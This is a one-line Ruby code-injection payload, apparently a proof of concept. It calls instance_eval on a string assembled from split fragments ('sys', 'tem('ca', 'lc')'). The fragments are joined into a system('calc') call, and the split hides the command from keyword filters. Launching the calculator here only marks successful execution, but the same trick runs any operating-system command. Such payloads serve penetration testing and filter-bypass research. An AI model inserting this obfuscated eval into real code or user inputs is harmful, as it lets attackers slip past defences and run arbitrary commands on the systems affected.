self.instance_eval(%w[sys tem('ca lc')].join)
